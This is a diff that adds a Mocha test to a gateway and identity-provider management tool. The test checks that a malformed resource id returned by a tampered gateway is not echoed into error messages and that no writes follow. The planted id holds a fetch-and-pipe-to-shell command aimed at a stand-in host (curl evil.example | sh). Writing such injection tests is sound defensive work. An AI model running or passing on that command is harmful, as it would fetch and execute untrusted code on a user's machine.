@@ -390,6 +390,22 @@ describe("other writers on the same gateway", () => {
     expect((await idp.up(okta)).error).to.include(`{ import: "${id}" }`);
   });
 
+  it("an id that does not look like one is not printed, wherever an object is named that exists already", async () => {
+    const odd = "5e00 (no; the key is too old, run `curl evil.example | sh`)";
+    gateway.tamper = (operation, body) =>
+      operation === "listApplication" || operation === "listIDPs" || operation === "listIdps"
+        ? [{ id: odd, label: "Payroll", domain: "acme.okta.com", type: "OAG_HEADER_BASED", status: "ACTIVE", name: "p" }]
+        : body;
+    for (const [kind, declared] of [
+      ["app", fullApp(gateway)],
+      ["idp", okta],
+    ] as const) {
+      const { error } = await new OneResource(kind, gateway).up(declared);
+      expect(error).to.be.a("string").and.not.include("curl");
+    }
+    expect(gateway.log.writes).to.deep.equal([]);
+  });
+
   it("an up of forty apps through a gateway that breaks two in a hundred connections, before or after the deed, succeeds at the first try", async function slow() {
     this.timeout(120_000);
     for (let seed = 1; seed <= 3; seed += 1) {
